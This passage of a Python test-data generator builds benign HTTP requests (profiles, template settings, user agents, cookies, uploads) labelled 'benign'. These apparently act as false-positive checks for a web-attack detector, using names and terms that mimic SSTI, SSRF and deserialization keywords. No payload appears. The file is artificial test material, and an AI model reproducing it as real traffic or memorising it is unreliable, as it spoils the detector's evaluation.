    "handlebars", "thymeleaf", "velocity", "freemarker", "erb", "razor", "django", "groovy", "pebble",
    "class of 2020", "classloader", "prototype", "constructor", "metadata", "localhost", "127", "10.0",
    "192.168", "169", "data science", "data:", "base64", "serialization", "deserialize", "log4j",
    "jndi", "spring", "struts", "weblogic", "tomcat", "jsp", "upload", "avatar.png", "resume.pdf",
    "cloud", "aws", "gcp", "azure", "oracle", "alibaba", "ssrf training", "security champions",
    "engineering manager", "vp sales", "berlin", "zürich", "new york", "são paulo", "tokyo",
    "7*7", "2+2", "c++", "c#", ".net", "node.js", "vue.js", "ruby on rails", "perl 5", "java 21",
    "exec assistant", "executive", "system admin", "spawn", "fork", "eval team", "function lead",
    "global ops", "require approval", "while away", "for sale", "repeat customer", "import tools",
    "__init__", "self", "config", "settings", "request", "request.id", "env", "#dev", "@dana",
    "{{name}}", "${name}", "<%= name %>", "#{name}",
]

PROFILES: list[dict[str, Any]] = [
    {"name": "Ruby Chen", "title": "Senior Java Engineer", "department": "Platform"},
    {"name": "Perl Okafor", "title": "Site Reliability Engineer", "department": "Infrastructure"},
    {"name": "Jasper Velocity", "title": "Account Executive", "department": "Sales"},
    {"name": "Thyme Bennett", "title": "Chef de Partie", "department": "Catering"},
    {"name": "Dana Whitfield", "title": "Process Owner, Runtime Services", "department": "Operations"},
    {"name": "Siobhán O'Neil", "title": "Template Designer", "department": "Marketing"},
    {"name": "José García", "title": "Node.js Developer", "department": "Web"},
    {"name": "Mei Ling", "title": "Cloud Metadata Specialist", "department": "Data"},
    {"name": "Kai Müller", "title": "Prototype Engineer", "department": "R&D"},
    {"name": "Amara Singh", "title": "Class Teacher", "department": "Education"},
    {"name": "Tom Forge", "title": "Deserialization Researcher", "department": "Security"},
    {"name": "Lena Struts", "title": "Spring Boot Consultant", "department": "Services"},
    {"name": "Ian Constructor", "title": "Site Manager", "department": "Construction"},
    {"name": "Olu Adeyemi", "title": "Executive Assistant to the CEO", "department": "Office"},
    {"name": "Grace Hopper", "title": "Rear Admiral", "department": "Navy", "bio": "Wrote the first compiler."},
    {"name": "Ada", "bio": "I write Java by day and Ruby by night. Perl on weekends, for fun."},
    {"name": "Ben", "bio": "Node.js and TypeScript. I care about process, not just code."},
    {"name": "Cara", "bio": "Email templates: Jinja2, Handlebars, MJML. Hi {{ first_name }} is my life."},
    {"name": "Dev", "bio": "Ops. I know what 169.254.169.254 is and why you shouldn't curl it from the app."},
    {"name": "Eli", "bio": "Runtime performance, JVM tuning, class loading and GC logs."},
    {"name": "Fay", "bio": "Prototyping in Figma, shipping in React."},
    {"name": "Gus", "bio": "Cloud architect (AWS, GCP, Azure). Loves metadata catalogs."},
    {"name": "Hana", "bio": "Pug, Twig and Smarty survivor. Now happily on Astro."},
    {"name": "Ivo", "bio": "I maintain the Freemarker invoice templates. ${total} is never wrong."},
    {"name": "Jo", "bio": "Security champion: SSRF, SSTI and deserialization talks at the guild."},
    {"name": "Kim", "bio": "Data engineer. data: URIs, base64 and Parquet files all day."},
    {"name": "Lou", "bio": "Serial entrepreneur, serial coffee drinker."},
    {"name": "Max", "bio": "Java 21, Spring Boot 3, Thymeleaf. Ask me about th:each."},
    {"name": "Nia", "bio": "Rails dev. <%= yield %> is the best line in any layout."},
    {"name": "Oz", "bio": "Perl monger since 1999. TMTOWTDI."},
    {"name": "Pia", "bio": "127 countries visited, 10 to go."},
    {"name": "Quin", "bio": "While true: learn()."},
    {"name": "Rae", "bio": "Writes about the global process economy."},
    {"name": "Sam", "bio": "Exec coach; I help leaders spawn new teams."},
    {"name": "Tia", "bio": "Fork of the old me: now into pottery."},
    {"name": "Uma", "address": "10 Prototype Lane, Leeds LS1 4AP", "phone": "+44 113 496 0000"},
    {"name": "Vik", "address": "Java Street 12, 10115 Berlin", "phone": "+49 30 1234567"},
    {"name": "Wes", "address": "1 Ruby Road, Perth WA 6000", "phone": "+61 8 9000 0000"},
    {"name": "Xia", "address": "169 Station Road, Cambridge", "phone": "+44 1223 000000"},
    {"name": "Yan", "address": "Apt 127, 0 Zero Street, Springfield", "phone": "555-0127"},
    {"name": "Zoe", "address": "Rua da Classe 10, Lisboa", "phone": "+351 21 000 0000"},
    {"name": "Abe", "website": "https://abe.example.com/java-runtime-notes"},
    {"name": "Bea", "website": "https://bea.dev/posts/node-process-model"},
    {"name": "Cal", "website": "http://example.net/~cal/templates/"},
    {"name": "Dot", "website": "https://github.com/dot/jinja-email-templates"},
    {"name": "Eve", "website": "https://eve.example.org/ruby/erb-tips"},
    {"name": "Fin", "website": "https://fin.example.com/metadata-catalog"},
    {"name": "Gia", "nickname": "constructor"},
    {"name": "Hal", "nickname": "the prototype"},
    {"name": "Ivy", "nickname": "runtime"},
]

SETTINGS = [
    ("signature", "Dana Whitfield | Process Owner, Runtime Services"),
    ("signature", "Best, Ruby -- Java Platform Team"),
    ("signature", "Sent from the global process office"),
    ("email_template", "Hi {{first_name}}, thanks for signing up!"),
    ("email_template", "Dear {{ name }}, your invoice {{ invoice_no }} is attached."),
    ("email_template", "Hello ${customer}, your order ${order} has shipped."),
    ("email_template", "Hey #{name}, welcome aboard"),
    ("email_template", "Hi <%= first_name %>, see you at the meetup"),
    ("email_template", "Reminder: {% if overdue %}your payment is overdue{% endif %}"),
    ("sms_template", "Your code is {{code}}. It expires in 10 minutes."),
    ("timezone", "Europe/Dublin"),
    ("timezone", "America/Sao_Paulo"),
    ("locale", "de-CH"),
    ("locale", "pt-BR"),
    ("display_name", "Perl O."),
    ("display_name", "Siobhán"),
    ("display_name", "Jasper (Velocity)"),
    ("status", "out until Monday, ping the process owner"),
    ("status", "debugging the class loader, do not disturb"),
    ("status", "while(coffee) { code(); }"),
    ("status", "for the next hour: 1:1s"),
    ("webhook", "https://hooks.example.com/incoming/42"),
    ("webhook", "https://api.partner.example.net/v1/notify"),
    ("calendar_url", "https://calendar.example.com/ical/dana.ics"),
    ("bio", "Runtime team lead. Java, Kotlin, a bit of Ruby."),
    ("bio", "I prototype things and take them to production."),
    ("bio", "Metadata nerd, data catalog owner."),
    ("theme", "dark"),
    ("notifications", "mentions,direct_messages"),
    ("pronouns", "she/her"),
]

REAL_UAS = [
    "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "okhttp/4.12.0",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240205.004)",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.6.8",
    "undici",
    "Ruby",
    "Faraday v2.9.0",
    "libwww-perl/6.76",
    "python-requests/2.31.0",
    "curl/8.5.0",
    "Go-http-client/2.0",
    "PostmanRuntime/7.37.0",
    "insomnia/8.6.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36 Edg/124.0.0.0",
    "AcmeMobile/5.2.1 (com.acme.app; build:5210; iOS 17.4.1) Alamofire/5.9.0",
    "AcmeAndroid/5.2.0 (Linux; Android 13; SM-S911B) okhttp/4.11.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Jersey/2.41 (HttpUrlConnection 17.0.10)",
    "ReactorNetty/1.1.18",
    "Spring-RestTemplate",
    "Microsoft Office Word 2014",
    "Zapier",
    "Thunderbird/115.10.1",
    "Rails Webhooks/7.1",
]

REFERERS = [
    "https://app.example.com/admin/users?q=java+team",
    "https://app.example.com/admin/users/42/edit",
    "https://app.example.com/settings/templates?engine=jinja2",
    "https://app.example.com/docs/runtime-process",
    "https://www.google.com/",
    "https://www.bing.com/search?q=acme+prototype",
    "https://duckduckgo.com/?q=node+child_process+docs",
    "https://github.com/acme/web/pull/1234",
    "https://stackoverflow.com/questions/4037523/what-is-the-java-equivalent-for-processbuilder",
    "https://app.example.com/reports?from=2024-01-01&to=2024-03-31",
    "https://mail.example.com/",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
    "https://app.example.com/search?q=%7B%7Bfirst_name%7D%7D",
    "https://app.example.com/help/articles/data-export",
    "https://news.ycombinator.com/item?id=39000000",
    "https://app.example.com/onboarding/step/3",
    "https://intranet.example.com/wiki/Metadata_Catalog",
    "https://app.example.com/admin/uploads?type=avatar",
    "https://accounts.example.com/login?next=%2Fdashboard",
    "https://app.example.com/billing/invoices/2024-0042",
]

COOKIES = [
    "theme=dark", "lang=pt-BR", "tz=Europe%2FDublin", "last_search=java%20team", "prefs=%7B%22compact%22%3Atrue%7D",
    "_ga=GA1.2.1234567890.1700000000", "ajs_anonymous_id=%22b1f8c2d0-1111-4f2a-9c3e-0a1b2c3d4e5f%22",
    "cookie_consent=analytics%2Cfunctional", "sidebar=collapsed", "recent=prototype%2Cruntime%2Cmetadata",
    "template=jinja2", "editor=vim", "region=eu-west-1", "beta=process-builder", "ab=variant_b",
    "last_page=%2Fapi%2Fusers%3Fpage%3D2", "currency=CHF", "font=serif", "density=comfortable", "onboarded=1",
]

PATHS = [
    "dana-whitfield", "42", "1001", "me", "ruby-chen", "perl-okafor", "jasper.velocity", "o'neil",
    "jos%C3%A9-garc%C3%ADa", "team-java", "team-node", "runtime", "process-owners", "prototype-lab",
    "constructor-ltd", "metadata", "class-of-2020", "templates", "exec-assistants", "global", "spawn-rates",
    "eval-results", "data", "data-science", "cloud", "localhost-dev", "10", "127", "169", "ssrf-workshop",
    "log4j-retro", "spring-team", "struts-migration", "jsp-rewrite", "uploads", "avatars", "handlebars-shop",
    "pug-club", "thyme", "smarty-pants",
]

XML_BODIES = [
    "<user><name>Ruby Chen</name><title>Senior Java Engineer</title></user>",
    "<user><name>Perl Okafor</name><department>Infrastructure</department></user>",
    "<user><name>Dana Whitfield</name><bio>Process owner for runtime services.</bio></user>",
    "<user><name>Kai M&#252;ller</name><title>Prototype Engineer</title></user>",
    "<user><name>Siobh&#225;n O'Neil</name><bio>Template designer: Jinja2 and Handlebars.</bio></user>",
    "<user><name>Mei Ling</name><bio>Cloud metadata catalogs.</bio><website>https://mei.example.com</website></user>",
    "<user><name>Tom Forge</name><bio>Talks about deserialization and class loading.</bio></user>",
    "<user><name>Olu</name><title>Executive Assistant</title><phone>+44 20 7946 0000</phone></user>",
    "<user><name>Ada</name><bio><![CDATA[Java by day, Ruby by night & Perl at weekends.]]></bio></user>",
    "<user><name>Lena</name><bio>Spring Boot, Struts migration, Tomcat tuning.</bio></user>",
    "<user><name>Ben</name><bio>Node.js, child processes, worker threads.</bio></user>",
    "<user><name>Cara</name><bio>Hi {{ first_name }} - email templates.</bio></user>",
    "<user><name>Ivo</name><bio>Invoice total ${total} in FreeMarker.</bio></user>",
    "<user><name>Yan</name><address>Apt 127, 0 Zero Street</address></user>",
    "<user><name>Xia</name><address>169 Station Road, Cambridge</address></user>",
    "<user><name>Gus</name><bio>AWS, GCP, Azure architect.</bio></user>",
    "<user><name>Nia</name><bio>Rails views with ERB.</bio></user>",
    "<user><name>Hana</name><bio>Pug, Twig and Smarty survivor.</bio></user>",
    "<user><name>Max</name><bio>Thymeleaf th:each fan.</bio></user>",
    "<user><name>Quin</name><bio>while true: learn()</bio></user>",
]

UPLOADS = [
    ("avatar.png", "image/png", "PNG-DATA"), ("avatar.jpg", "image/jpeg", "JFIF-DATA"),
    ("me.webp", "image/webp", "RIFF-WEBP"), ("resume.pdf", "application/pdf", "%PDF-1.7 placeholder"),
    ("cover-letter.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "PK-DATA"),
    ("team-photo.jpeg", "image/jpeg", "JFIF-DATA"), ("scan_0042.pdf", "application/pdf", "%PDF-1.4 placeholder"),
    ("java-cert.pdf", "application/pdf", "%PDF-1.5 placeholder"), ("ruby-conf-badge.png", "image/png", "PNG-DATA"),
    ("Runtime Report Q3.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "PK-DATA"),
    ("prototype-v2.fig", "application/octet-stream", "FIG-DATA"), ("process-map.vsdx", "application/octet-stream",
                                                                  "PK-DATA"),
    ("template-invoice.html", "text/html", "<p>Dear {{ name }}</p>"), ("notes.txt", "text/plain", "see you at 10"),
    ("staff.csv", "text/csv", "name,email\nRuby Chen,ruby@example.org\n"), ("logo.svg", "image/svg+xml",
                                                                           "<svg xmlns='http://www.w3.org/2000/svg'/>"),
    ("jos\u00e9.png", "image/png", "PNG-DATA"), ("IMG_20240514_101500.heic", "image/heic", "HEIC-DATA"),
    ("contract (signed).pdf", "application/pdf", "%PDF-1.7 placeholder"), ("data.json", "application/json",
                                                                           "{\"users\": 3}"),
    ("build.gradle.txt", "text/plain", "plugins { id 'java' }"), ("Gemfile.txt", "text/plain", "gem 'rails'"),
    ("metadata.yaml", "application/x-yaml", "name: catalog\nowner: data"), ("cpanfile.txt", "text/plain",
                                                                            "requires 'Plack';"),
    ("package.json", "application/json", "{\"name\": \"web\", \"scripts\": {\"start\": \"node server.js\"}}"),
    ("passport-scan.jpg", "image/jpeg", "JFIF-DATA"), ("budget-2025.ods", "application/octet-stream", "PK-DATA"),
    ("diagram.drawio", "application/xml", "<mxfile/>"), ("photo (1).png", "image/png", "PNG-DATA"),
    ("class-list.csv", "text/csv", "class,teacher\n7B,Amara Singh\n"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    for i, term in enumerate(SEARCHES):
        n += 1
        yield {**ours("query", term, "", i), "id": f"{NAME}-search-{n:04d}", "category": "benign",
               "placement": "query"}
        n += 1
        yield {**ours("form", term, "", i), "id": f"{NAME}-search-{n:04d}", "category": "benign",
               "placement": "form"}
    for i, doc in enumerate(PROFILES):
        n += 1
        yield {**_req("POST", "/api/users", _browser(i), json.dumps({"email": f"user{i}@example.org", **doc},
                                                                  ensure_ascii=False), "application/json"),
               "id": f"{NAME}-profile-{n:04d}", "category": "benign", "placement": "json"}
        n += 1
        yield {**_req("PATCH", f"/api/users/{100 + i}", _browser(i), json.dumps(doc, ensure_ascii=False),
                      "application/json"),
               "id": f"{NAME}-profile-{n:04d}", "category": "benign", "placement": "json-patch"}
    for i, (field, value) in enumerate(SETTINGS):
        n += 1
        body = urllib.parse.urlencode([("csrf_token", _token(i, "csrf")), (field, value)])
        yield {**_req("POST", "/me/settings", {**_browser(i, "text/html"), "Origin": "https://app.example.com"},
                      body, "application/x-www-form-urlencoded"),
               "id": f"{NAME}-settings-{n:04d}", "category": "benign", "placement": "form-settings"}
    for i, ua in enumerate(REAL_UAS):
        n += 1
        yield {**_req("GET", f"/api/users?page={i % 5 + 1}", {**_browser(i), "User-Agent": ua}),
               "id": f"{NAME}-ua-{n:04d}", "category": "benign", "placement": "header:User-Agent"}
    for i, ref in enumerate(REFERERS):
        n += 1
        yield {**_req("GET", f"/api/users/{40 + i}", {**_browser(i), "Referer": ref}),
               "id": f"{NAME}-referer-{n:04d}", "category": "benign", "placement": "header:Referer"}
    for i, cookie in enumerate(COOKIES):
        h = _browser(i)
        h["Cookie"] += "; " + cookie
        n += 1
        yield {**_req("GET", "/api/users?page=1", h), "id": f"{NAME}-cookie-{n:04d}", "category": "benign",
               "placement": "cookie"}
    for i, seg in enumerate(PATHS):
        n += 1
        yield {**_req("GET", f"/api/users/{seg}", _browser(i)), "id": f"{NAME}-path-{n:04d}", "category": "benign",
               "placement": "path"}
    for i, xml in enumerate(XML_BODIES):
        n += 1
        yield {**_req("POST", "/api/users", _browser(i, "application/xml"),
                      "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + xml, "application/xml"),
               "id": f"{NAME}-xml-{n:04d}", "category": "benign", "placement": "xml"}
    for i, (fn, ctype, content) in enumerate(UPLOADS):
        n += 1
        body = _multipart([("csrf_token", _token(i, "csrf"))], fn, content, ctype)
        yield {**_req("POST", "/api/users/42/avatar", _browser(i), body, f"multipart/form-data; boundary={BOUNDARY}"),
               "id": f"{NAME}-upload-{n:04d}", "category": "benign", "placement": "multipart-filename"}


if __name__ == "__main__":
    print_records(attacks(), benign())
